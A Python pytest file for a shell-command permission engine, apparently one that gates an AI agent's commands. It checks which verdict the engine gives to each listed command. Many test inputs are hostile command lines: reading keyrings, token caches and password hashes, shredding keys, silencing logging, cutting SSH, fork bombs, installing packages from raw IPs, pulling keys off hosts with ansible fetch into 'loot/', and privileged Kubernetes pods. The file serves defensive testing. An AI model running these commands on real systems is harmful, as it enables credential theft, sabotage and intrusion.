"""Classes of behaviour found missing on held-out v5 (sixth pass on issue 16).

Each case is a class, spelled in ways no rule and no held-out command names literally:
credentials kept in keyrings, CLI token caches, cluster join tokens, container configs
and services' own password files; keys deleted or shredded (what they decrypt is lost);
the logging setup rewritten; tools that print or mint a credential (volume keys, forge
tokens, ACL token lists, new cloud keys) and SQL that sets an account's password or
prints password columns; clusters, queues and certificates destroyed; mail relays opened;
units installed from temp folders; SSH cut at the firewall and interfaces blackholed;
packages installed unsigned or from an address, and package sources rewritten; git hooks
run from a temp folder; folders of keys served over HTTP; a wrapper that only holds a
lock; alert silences. Counter-cases show the everyday form of each still runs.
"""

from __future__ import annotations

import pytest
from helpers.policy_corpus import verdict

from aiperm_tui.config import Config
from aiperm_tui.policy import PolicyEngine

ENGINE = PolicyEngine(Config())


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # credentials in keyrings, token caches, join tokens, container configs, passwd files
        ("less /etc/ceph/ceph.client.rgw.keyring", "typed"),
        ("cat ~/.local/share/keyrings/login.keyring", "typed"),
        ("jq . /home/ops/.azure/msal_token_cache.json", "typed"),
        ("cat /var/lib/rancher/rke2/server/node-token", "typed"),
        ("grep -i env /var/lib/docker/containers/4f2a/config.v2.json", "typed"),
        ("cat /etc/mosquitto/passwd", "typed"),
        ("head /etc/nginx/auth/admins.passwd", "typed"),
        ("cat /var/lib/rancher/k3s/server/cred/passwd", "typed"),
        ("strings /etc/sasl2/sasldb2", "typed"),
        ("sqlite3 ~/.mozilla/firefox/p.default-release/key4.db .dump", "typed"),
        ("less /etc/ldap/slapd.d/cn=config/olcDatabase={2}hdb.ldif", "typed"),
        ("cat /opt/tomcat/conf/tomcat-users.xml", "typed"),
        ("cat /srv/ci/jenkins/credentials.xml", "typed"),
        ("head /etc/wireguard/privatekey", "typed"),
        ("cat /opt/app/config/app-secrets.yaml", "typed"),
        ("cat /etc/wireguard/publickey", "none"),
        # a search on a config's content through a pipe picks its credential lines out
        ("cat /etc/grafana/grafana.ini | grep -i admin_password", "typed"),
        ("head -200 /srv/app/.config.php | grep DB_PASS", "typed"),
        ("cat /etc/nginx/nginx.conf | grep server_name", "none"),
        ("cat /var/log/auth.log | grep 'Failed password'", "none"),
        ("cat /usr/share/keyrings/nodesource.gpg | wc -c", "none"),
        ("ls -l /etc/ceph/", "none"),
        ("cat /etc/pam.d/passwd", "none"),
        ("cat /etc/dovecot/conf.d/10-auth.conf", "none"),
        # a key deleted or shredded: what it opens or decrypts is lost with it
        ("shred -n 3 -u /srv/vault/unseal.key", "typed"),
        ("rm -f /opt/app/config/master.key", "typed"),
        ("rm -f /srv/app/tmp/cache.json", "action"),
        # the logging setup rewritten
        ("printf '*.* ~\\n' > /etc/rsyslog.d/10-drop.conf", "typed"),
        ("sed -i 's/^#Storage=.*/Storage=none/' /etc/systemd/journald.conf", "typed"),
        ("cp /tmp/a.rules /etc/audit/rules.d/audit.rules", "typed"),
        ("cat /etc/rsyslog.conf", "none"),
        # tools that print or mint a credential
        ("cryptsetup luksDump --dump-master-key /dev/vdb1", "typed"),
        ("glab auth status --show-token", "typed"),
        ("consul acl token list -format json", "typed"),
        ("gcloud iam service-accounts keys create k.json --iam-account=x@p.iam.x.com", "typed"),
        ("aws iam create-access-key --user-name ci-bot", "typed"),
        ("cryptsetup luksDump /dev/vdb1", "none"),
        ("gh auth status", "none"),
        ("consul members", "none"),
        # SQL: an account's password set, password or token columns printed
        ("psql -U postgres -c \"ALTER ROLE replicator WITH PASSWORD 'x'\"", "typed"),
        ("mysql -e \"ALTER USER 'root'@'localhost' IDENTIFIED BY 'pw'\"", "typed"),
        ("mysql -e 'SELECT user, authentication_string FROM mysql.user'", "typed"),
        ("sqlite3 /srv/app/app.db 'select email, password_hash from accounts'", "typed"),
        ("psql -c 'select rolname, rolpassword from pg_authid'", "typed"),
        ("psql -c 'select email, created_at from users where reset_token is null'", "none"),
        ("mysql -e 'select count(*) from mysql.user'", "none"),
        # clusters, queues and certificates destroyed
        ("pg_dropcluster --stop 15 analytics", "typed"),
        ("pg_resetwal -f /var/lib/pgsql/16/data", "typed"),
        ("postsuper -d ALL", "typed"),
        ("certbot delete --cert-name www.example.org --non-interactive", "typed"),
        ("salt-key --delete-all --yes", "typed"),
        ("salt-key -A -y", "typed"),
        ("certbot certificates", "none"),
        # a mail relay opened to everyone
        ("postconf -e 'mynetworks = 127.0.0.0/8, [::]/0'", "typed"),
        ("postconf -e 'mynetworks = 127.0.0.0/8 192.168.10.0/24'", "action"),
        # units from temp folders
        ("systemctl enable /var/tmp/x/cleanup.timer", "typed"),
        ("systemctl link /dev/shm/a.service; systemctl start a", "typed"),
        ("systemctl enable --now node-exporter", "action"),
        # SSH cut, interfaces blackholed
        ("ufw reject 22", "typed"),
        ("nft add rule inet fw input tcp dport ssh drop", "typed"),
        ("firewall-cmd --remove-port=22/tcp --permanent", "typed"),
        ("firewall-cmd --permanent --remove-service ssh", "typed"),
        ("tc qdisc add dev ens5 root netem loss 75%", "typed"),
        ("ufw allow 443/tcp", "action"),
        ("tc qdisc add dev ens5 root netem delay 50ms 10ms", "action"),
        # packages unsigned or from an address; package sources rewritten
        ("rpm -Uvh http://198.51.100.12/repo/agent-2.rpm", "typed"),
        ("dnf -y --nogpgcheck install /tmp/tool.rpm", "typed"),
        ("npm config set registry http://203.0.113.50:4873", "typed"),
        ("pip3 config set global.extra-index-url http://10.9.8.7/simple", "typed"),
        ("npm config get registry", "none"),
        # git hooks from a temp folder
        ("git config core.hooksPath /tmp/hooks", "typed"),
        ("git config core.hooksPath .husky", "action"),
        # folders served over HTTP
        ("python3 -m http.server 8080 --directory /home", "typed"),
        ("php -S 0.0.0.0:9000 -t /etc", "typed"),
        ("python3 -m http.server 8080 --directory /srv/www/dist", "plan"),
        # a wrapper that holds a lock while its command runs
        ("systemd-inhibit --why=maint --what=idle rm -rf /var/lib/app", "typed"),
        ("systemd-inhibit --list", "none"),
        # alert silences
        ("amtool silence add instance=db2:9100 -d 30m -c reboot", "action"),
        ("amtool silence query instance=db2:9100", "none"),
    ],
)
def test_sixth_pass_classes(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, ENGINE.decide(cmd).reason


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # an option's value is never a dry-run flag: `-e`/`--exclude` take a pattern
        ("git clean -fdx -e -n", "typed"),
        ("git clean -xdf --exclude --dry-run", "typed"),
        ("git clean -ndx", "none"),
        ("helm uninstall web -n prod --dry-run", "none"),
        # fleet modules that bring a remote file back to the controller read it
        ("ansible db -b -m fetch -a 'src=/etc/ssl/private/db.key dest=loot/'", "typed"),
        ("ansible all -m slurp -a src=/root/.aws/credentials", "typed"),
        ("salt 'web*' cp.push /etc/shadow", "typed"),
        ("ansible web -m fetch -a 'src=/var/log/syslog dest=logs/'", "plan"),
        # endless loops that start processes without waiting for them
        ("python3 -c 'import os\nwhile True: os.fork()'", "deny"),
        ('node -e \'while(true){require("child_process").exec("true")}\'', "deny"),
        ("ruby -e 'loop do Process.spawn(\"true\") end'", "deny"),
        ("seq inf | xargs -P 0 -I{} true", "deny"),
        ("yes | parallel -j0 sleep", "deny"),
        ("seq 5 | parallel -j0 echo", "none"),
        ("python3 -c 'import subprocess; subprocess.Popen([\"make\"])'", "action"),
        ("seq 8 | xargs -P 0 -n1 echo", "none"),
        # a loop over every account of the host reaches root
        ('for a in $(getent passwd | cut -d: -f1); do passwd -l "$a"; done', "typed"),
        ("for a in `awk -F: '{print $1}' /etc/passwd`; do usermod -s /bin/false $a; done", "typed"),
        ("userdel root", "typed"),
        ('for a in $(getent passwd | cut -d: -f1); do id "$a"; done', "none"),
        # credentials picked out by a name pattern, a find upstream or xargs' placeholder
        ("find / -name 'id_ed*' -exec cat {} +", "typed"),
        ("find /home -iname '.env*' | xargs cat", "typed"),
        ("ls /home/ops/.ssh | xargs -I F cat /home/ops/.ssh/F", "typed"),
        ("locate id_ed25519 | xargs cat", "typed"),
        ("locate nginx.conf | xargs ls -l", "none"),
        ("find /etc/nginx -name '*.conf' -exec cat {} +", "none"),
        ("find . -name '*.md' | xargs wc -w", "none"),
        ("ls /var/log/app | xargs -I{} du -sh /var/log/app/{}", "none"),
    ],
)
def test_sixth_pass_grammar_and_flow(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, ENGINE.decide(cmd).reason


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        # manifests given on the line that reach the node
        (
            "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n"
            "  volumes: [{name: r, hostPath: {path: /etc}}]\nEOF",
            "typed",
        ),
        ('kubectl create -f - <<< \'{"spec": {"hostNetwork": true}}\'', "typed"),
        ('kubectl run dbg --image=busybox --overrides=\'{"spec":{"hostPID":true}}\'', "typed"),
        ("cat <<EOF | kubectl apply -f -\nkind: Pod\nspec:\n  hostPID: true\nEOF", "typed"),
        ("kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata: {a: b}\nEOF", "action"),
        # commands sent to a daemon's control socket
        (
            "echo 'shutdown sessions server be_api/web1' | socat stdio /run/haproxy/admin.sock",
            "action",
        ),
        ("echo 'set weight be_api/web2 0' | nc -U /var/run/haproxy.sock", "action"),
        ("echo 'show info' | socat - UNIX-CONNECT:/var/run/haproxy.sock", "none"),
        ("printf 'show stat\\n' | nc -U /run/haproxy/admin.sock", "none"),
        # a tool's own listing fed to its delete
        ("redis-cli -n 3 --scan --pattern 'session:*' | xargs redis-cli -n 3 UNLINK", "typed"),
        # left16: judged as `kubectl delete pods $(LISTING)`, every pod (`--all`): denied
        ("kubectl get pods -o name -n staging | xargs kubectl delete -n staging", "deny"),
        ("redis-cli --scan --pattern 'cache:*' | xargs -n 50 redis-cli TTL", "none"),
        # git settings given as GIT_CONFIG_KEY_n/VALUE_n pairs
        (
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand "
            "GIT_CONFIG_VALUE_0='sh -c id' git fetch",
            "typed",
        ),
        ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=ci git log -1", "none"),
        # package files written into a folder
        ("pip download -d /srv/wheels 'flask==3.0.3'", "action"),
        ("pip wheel --no-deps -w /srv/dist .", "action"),
        # the client sections of a MySQL option file hold its password
        ("grep -A4 '\\[client\\]' /etc/mysql/conf.d/client.cnf", "typed"),
        ("awk '/\\[mysqldump\\]/,/^$/' /etc/mysql/backup.cnf", "typed"),
        ("grep -A3 '\\[mysqld\\]' /etc/mysql/my.cnf", "none"),
    ],
)
def test_sixth_pass_payloads_and_sockets(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, ENGINE.decide(cmd).reason
